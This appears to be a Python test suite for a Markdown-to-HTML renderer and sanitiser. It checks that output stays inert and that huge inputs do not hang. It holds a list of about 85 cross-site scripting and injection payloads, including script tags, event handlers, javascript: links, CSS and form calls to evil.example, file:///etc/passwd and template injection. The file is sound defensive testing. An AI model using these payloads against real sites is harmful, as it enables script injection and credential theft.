"""Contributors' Markdown: the fast way and the whole way agree, and nothing in it can act."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from credfolio.text import prose
from credfolio.text.prose import is_plain, plain_text, render_line, render_prose
from html_tree import Element, parse_page

TAGS = {
    *("p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("table", "thead", "tbody", "tr", "th", "td", "hr"),
}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}}


def elements(html: str) -> list[Element]:
    page = parse_page(html)
    assert not page.faults, (page.faults, html)
    return list(page.root.all())


def assert_inert(html: str) -> None:
    for element in elements(html):
        assert element.name in TAGS, html
        assert set(element.attributes) <= ATTRIBUTES.get(element.name, set()), html
        if "href" in element.attributes:
            assert re.match(r"https?://[a-z0-9]", element["href"], re.IGNORECASE), html


# --- the fast way -------------------------------------------------------------------------------

# The sanitiser drops a byte order mark, which nobody sees.
plain_paragraphs = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\\`*_[]<>&~|!#\ufeff"),
    min_size=1,
).filter(is_plain)


def whole_way(text: str) -> str:
    """Through the parser for blocks and the sanitiser, without any shortcut."""
    return cleaned(prose._MARKDOWN.render(text))


def cleaned(html: str) -> str:
    """What the sanitiser makes of it; it spells the no-break space, which is the same text."""
    return prose._CLEANER.clean(html).replace("&nbsp;", "\xa0")


@given(plain_paragraphs)
def test_plain_text_gives_the_same_with_and_without_the_parser(text: str) -> None:
    assert render_prose(text) == whole_way(text)
    assert render_line(text) == cleaned(prose._MARKDOWN.renderInline(text.strip()))


# A record's text is never empty, and is stripped when it is read.
one_line = st.one_of(
    st.text(st.sampled_from("ab1 .)(-+=#>*_`~|[]<&\\!:\"'")),
    st.text(st.characters(exclude_categories=("Cs", "Cc", "Z"), exclude_characters="\ufeff")),
).filter(lambda text: text != "" and text == text.strip())


@given(one_line)
def test_one_line_gives_the_same_with_and_without_a_look_for_blocks(text: str) -> None:
    assert cleaned(render_prose(text)).strip() == whole_way(text).strip()


@given(st.text(st.sampled_from("ab \n*_`-1.<>&\"'[]()"), max_size=60))
def test_the_shortcut_around_the_sanitizer_lets_nothing_through(text: str) -> None:
    html = prose._MARKDOWN.render(text)
    assert cleaned(prose._sanitize(html)) == cleaned(html)


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_any_text_gives_html_that_cannot_act(text: str) -> None:
    assert_inert(render_prose(text))
    assert_inert(render_line(text))


@given(st.text(st.sampled_from("<>/&;'\"= \n`*_[]()!#:-+|ascriptonerjv\\"), max_size=60))
def test_marks_and_brackets_in_any_order_give_html_that_cannot_act(text: str) -> None:
    assert_inert(render_prose(text))
    assert_inert(render_line(text))


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("Plain words.", "Plain words."),
        ("It said *nothing*, and **twice**.", "It said nothing, and twice."),
        ("A [link](https://a.example/), `code` and a\nline.", "A link, code and a line."),
        ("One.\n\n- two\n- three", "One. two three"),
        ("# Heading\n\nText", "Heading Text"),
    ],
)
def test_the_words_of_a_text_are_those_that_a_reader_sees(text: str, words: str) -> None:
    assert plain_text(text) == words
    assert parse_page(render_prose(text)).root.text == words


# --- what prose can do --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Two.\n\nParagraphs.", "<p>Two.</p>\n<p>Paragraphs.</p>\n"),
        ("## Loud", "<p><strong>Loud</strong></p>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        ("Salt & vinegar", "<p>Salt &amp; vinegar</p>\n"),
        (
            "[there](https://a.example/?a=1&b=2)",
            (
                '<p><a href="https://a.example/?a=1&amp;b=2"'
                ' rel="nofollow ugc noopener noreferrer">there</a></p>\n'
            ),
        ),
        (
            "|a|b|\n|-|-|\n|1|2|",
            (
                "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n"
                "<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>\n"
            ),
        ),
    ],
)
def test_ordinary_markdown_is_shown_as_it_is_meant(text: str, html: str) -> None:
    assert render_prose(text) == html


def test_a_heading_in_prose_does_not_enter_the_outline_of_the_page() -> None:
    for level in range(1, 7):
        assert {e.name for e in elements(render_prose("#" * level + " Loud"))} == {"p", "strong"}


def test_a_picture_in_prose_is_not_fetched() -> None:
    html = render_prose("![a cat](https://tracker.example/cat.png)")
    assert "<img" not in html
    assert "tracker.example" not in html or "<a " in html


# --- attacks ------------------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x" onerror="alert(1)" alt="',
    "<svg onload=alert(1)>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example/><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://a.example/' onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](<jav ascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](../../../escape)",
    "[x](file:///etc/passwd)",
    "[x](mailto:a@evil.example?bcc=all@school.example)",
    "[x](tel:+15550100)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)//>',
    '[x](https://a.example/ "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example/'onmouseover=alert(1)')",
    '![x](https://a.example/x.png"onerror="alert(1))',
    "![](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "x{: onclick=alert(1) }",
    '<div markdown="1"><script>alert(1)</script></div>',
    '--8<-- ".git/config"',
    "{{ config.extra }}{% for x in [].__class__.__mro__ %}{% endfor %}",
    "\x00<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<script>alert(1)</script>" * 20,
    "<style/onload=alert(1)>",
    "<a id=content name=content href=#content>clobber</a>",
]


def test_there_are_enough_attacks_and_no_two_are_alike() -> None:
    assert len(ATTACKS) >= 60
    assert len(set(ATTACKS)) == len(ATTACKS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_or_dropped_and_does_nothing(attack: str) -> None:
    for text in (attack, f"Before. {attack} After.", f"- item\n\n  {attack}\n"):
        assert_inert(render_prose(text))
        assert_inert(render_line(text))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_words_of_an_attack_are_only_words(attack: str) -> None:
    # They go into descriptions and the search index, which escape them.
    assert isinstance(plain_text(attack), str)


# --- size ---------------------------------------------------------------------------------------

HUGE = {
    "brackets": "[" * 20_000,
    "nested quotes": ">" * 20_000,
    "nested lists": "".join("  " * n + "- x\n" for n in range(190)),
    "stars": "*a " * 6_600,
    "stars and underscores": "*_" * 10_000,
    "open links": "[a](" * 5_000,
    "backticks": "".join("`" * n + " " for n in range(1, 199)),
    "tags": "<div>" * 4_000,
    "entities": "&lt;" * 5_000,
    "table": "|" + "a|" * 100 + "\n|" + "-|" * 100 + "\n" + ("|" + "b|" * 100 + "\n") * 96,
    "references": "".join(f"[{n}]: https://a.example/{n}\n" for n in range(600)),
    "images": "![" * 10_000,
    "strikes": "~~a" * 6_600,
    "one long word": "x" * 20_000,
    "too long for the parser": "*a* [" * 200_000,
}


@pytest.mark.parametrize("name", HUGE)
def test_huge_and_nested_text_does_not_hang(name: str) -> None:
    began = time.process_time()  # not the clock: other processes may have the machine
    assert_inert(render_prose(HUGE[name]))
    assert_inert(render_line(HUGE[name]))
    plain_text(HUGE[name])
    # Hanging takes minutes; a slow machine does not.
    assert time.process_time() - began < 20
